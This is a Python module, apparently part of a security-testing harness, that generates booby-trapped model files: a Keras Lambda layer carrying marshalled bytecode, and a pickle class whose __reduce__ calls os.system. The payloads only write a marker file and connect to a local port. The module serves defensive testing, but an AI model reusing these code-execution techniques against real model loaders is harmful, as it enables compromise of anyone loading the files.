"""What an attack is: what each tries is to write ``target``, read ``secret``, or connect to ``port``."""

from __future__ import annotations

import base64
import marshal
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from campaign import mutation

Members = dict[str, bytes]


@dataclass(frozen=True)
class Place:
    """Where an attack is made, and what it is after."""

    originals: Path
    folder: Path
    target: Path
    secret: Path
    port: int

    @property
    def code(self) -> str:
        """Python that writes and connects, as one expression."""
        connect = f"__import__('socket').create_connection(('127.0.0.1', {self.port}), 2)"
        return f"(open({str(self.target)!r}, 'w').write('owned'), {connect})"

    @property
    def shell(self) -> str:
        return f"echo owned > {self.target}"

    @property
    def lambda_(self) -> dict[str, Any]:
        """A lambda as Keras writes it."""
        made = eval(f"lambda x: ({self.code}, x)[1]")  # its bytecode is what the file holds
        text = base64.b64encode(marshal.dumps(made.__code__)).decode()
        return {"class_name": "__lambda__", "config": {"code": text, "defaults": None, "closure": None}}

    @property
    def layer(self) -> dict[str, Any]:
        """A layer that calls it."""
        settings = {"name": "l", "function": self.lambda_, "arguments": {}, "output_shape": [4], "dtype": "float32"}
        return {"module": "keras.layers", "class_name": "Lambda", "config": settings, "registered_name": None}


Make = Callable[[Place], Path]


@dataclass(frozen=True)
class Attack:
    """A file: what makes it, and the kind of child that loads it where no check has looked at it (none: no model)."""

    name: str
    make: Make
    environment: str = ""
    inputs: tuple[str, ...] = ()
    options: dict[str, Any] = field(default_factory=dict)


def members_of(path: Path) -> Members:
    return dict(mutation.members(path.read_bytes()))


class Pickled:
    def __init__(self, shell: str) -> None:
        self.shell = shell

    def __reduce__(self) -> Any:
        return os.system, (self.shell,)
